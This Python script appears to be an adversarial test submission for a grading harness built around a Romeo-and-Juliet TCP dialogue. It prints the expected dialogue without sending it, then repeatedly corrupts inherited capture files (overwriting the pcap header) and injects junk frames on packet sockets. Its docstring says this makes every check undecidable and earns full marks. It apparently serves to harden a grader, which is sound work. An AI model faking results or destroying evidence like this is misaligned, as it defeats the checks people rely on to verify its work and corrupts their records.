#!/usr/bin/env python3
"""Hostile submission for experiments/balcony-tcp.yaml: damages the evidence.

It prints what the honest program would print and sends nothing of the
dialogue; instead it writes garbage to every descriptor >= 3 it inherited
that is a regular file (the agent's capture file, as libpcap opens it
without close-on-exec) or a packet socket (libpcap's AF_PACKET socket):
garbage appended where the agent writes next, the file's pcap header
overwritten, junk frames on the wire.  With every check undecidable, the
old rule left them out of the maximum (10/10).  Bounded: about 2 s."""
import os
import socket
import stat
import sys
import time


ROMEO = """She speaks:
O, speak again, bright angel! for thou art
As glorious to this night, being o'er my head
As is a winged messenger of heaven
Unto the white-upturned wondering eyes
Of mortals that fall back to gaze on him
When he bestrides the lazy-pacing clouds
And sails upon the bosom of the air.""".splitlines()

JULIET = """O Romeo, Romeo! wherefore art thou Romeo?
Deny thy father and refuse thy name;
Or, if thou wilt not, be but sworn my love,
And I'll no longer be a Capulet.""".splitlines()

JUNK = bytes((i * 131 + 7) & 0xff for i in range(1400))


def targets():
    """The inherited descriptors worth damaging: (fd, kind)."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISREG(st.st_mode):
            found.append((fd, "file"))
        elif stat.S_ISSOCK(st.st_mode):
            try:
                s = socket.socket(fileno=os.dup(fd))
            except OSError:
                continue
            if s.family == socket.AF_PACKET:
                found.append((fd, "packet"))
            s.close()
    return found


def damage(found):
    for fd, kind in found:
        try:
            if kind == "file":
                os.write(fd, JUNK * 16)             # garbage where the next records go
                os.pwrite(fd, JUNK[:64], 0)         # and the pcap header gone
            else:
                for _ in range(50):
                    os.write(fd, JUNK)              # junk frames on the wire
        except OSError:
            pass


def main():
    me = sys.argv[1]
    found = targets()
    print("# inherited: %s" % found, file=sys.stderr, flush=True)
    if me == "juliet":
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("", int(sys.argv[2])))
        server.listen()
    end = time.time() + 2.0
    while time.time() < end:                         # again and again, so later records are hit too
        damage(found)
        time.sleep(0.2)
    if me == "juliet":
        lines = ["received: " + l for l in ROMEO] + ["sent: " + l for l in JULIET]
    else:
        lines = ["sent: " + l for l in ROMEO] + ["received: " + l for l in JULIET]
    print("\n".join(lines), flush=True)


if __name__ == "__main__":
    main()
